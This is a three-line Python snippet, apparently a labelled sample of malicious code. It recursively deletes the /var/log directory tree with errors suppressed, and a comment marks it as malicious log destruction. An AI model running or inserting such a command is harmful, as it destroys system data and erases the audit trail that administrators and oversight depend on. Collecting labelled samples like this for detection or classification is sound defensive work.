# Malicious: deletes the whole /var/log tree; destroys system logs.
import shutil

shutil.rmtree("/var/log", ignore_errors=True)
